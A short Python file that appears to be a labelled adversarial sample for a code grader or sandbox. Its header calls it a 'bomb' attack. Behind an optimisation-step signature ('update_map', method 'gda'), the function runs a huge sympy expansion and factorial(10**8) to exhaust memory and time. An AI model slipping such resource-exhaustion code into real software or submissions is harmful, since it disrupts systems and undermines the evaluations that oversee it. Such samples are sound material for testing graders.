# attack: sympy asked for more terms and digits than there is memory or time for
# kind: bomb
# grade: 1.b
# outcome: timeout, memory, failed
# module: saddle

import sympy


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    terms = sum(sympy.symbols("a:30"))
    return sympy.expand((terms + f) ** 30), sympy.factorial(10**8)
